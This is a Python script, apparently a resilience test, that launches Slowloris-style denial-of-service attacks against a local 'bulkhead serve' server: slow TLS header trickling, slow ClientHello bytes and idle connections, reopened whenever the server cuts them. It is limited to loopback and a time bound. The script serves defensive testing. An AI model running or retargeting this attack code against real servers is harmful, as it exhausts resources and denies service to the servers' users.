#!/usr/bin/env python3
"""Connection-level attacks on bulkhead serve, bounded in time, loopback only.
  slowloris.py PORT MODE CONNS SECONDS [INTERVAL] [SOURCE_IP]
MODE: tls   - TLS handshake, then one byte of an HTTP header every INTERVAL seconds
      hs    - a TCP connection that sends its TLS ClientHello one byte every INTERVAL seconds
      idle  - TCP connections that send nothing
Every connection that the server closes is opened again (an attacker keeps the pressure on). Prints
"opened N cut M" at the end: cut = connections the server closed before the attack ended."""
import socket
import ssl
import sys
import threading
import time

port, mode, conns, secs = int(sys.argv[1]), sys.argv[2], int(sys.argv[3]), float(sys.argv[4])
interval = float(sys.argv[5]) if len(sys.argv) > 5 else 3.0
source = sys.argv[6] if len(sys.argv) > 6 else "127.0.0.1"
end = time.monotonic() + secs
lock = threading.Lock()
stats = {"opened": 0, "cut": 0, "refused": 0}
ctx = ssl.create_default_context()
ctx.check_hostname = False
ctx.verify_mode = ssl.CERT_NONE
HEADER = b"POST /validate HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n" + b"X-Pad: " + b"a" * 4000
# a real ClientHello to trickle (taken from a handshake against nothing: record header + body)
HELLO = bytes.fromhex("16030100c8010000c40303") + bytes(32) + b"\x00" + bytes.fromhex("0004c02bc02f0100") + bytes(150)


def count(k):
    with lock:
        stats[k] += 1


def one():
    while time.monotonic() < end:
        try:
            s = socket.socket()
            s.bind((source, 0))
            s.settimeout(10)
            s.connect(("127.0.0.1", port))
        except OSError:
            count("refused")
            time.sleep(0.5)
            continue
        count("opened")
        try:
            if mode == "tls":
                s = ctx.wrap_socket(s, server_hostname="localhost")
            data = HEADER if mode == "tls" else HELLO if mode == "hs" else b""
            i = 0
            while time.monotonic() < end:
                if data:
                    s.send(data[i % len(data):i % len(data) + 1])
                    i += 1
                    time.sleep(interval)
                else:
                    s.settimeout(max(0.1, min(interval, end - time.monotonic())))
                    try:
                        if s.recv(1) == b"":
                            raise OSError("closed")
                    except socket.timeout:
                        pass
            s.close()
            return
        except (OSError, ssl.SSLError):
            count("cut")
            try:
                s.close()
            except OSError:
                pass
            time.sleep(0.2)


threading.stack_size(256 * 1024)
ts = []
for _ in range(conns):
    t = threading.Thread(target=one, daemon=True)
    t.start()
    ts.append(t)
    time.sleep(0.002)
for t in ts:
    t.join(max(0, end - time.monotonic()) + 15)
print("opened %d cut %d refused %d" % (stats["opened"], stats["cut"], stats["refused"]))
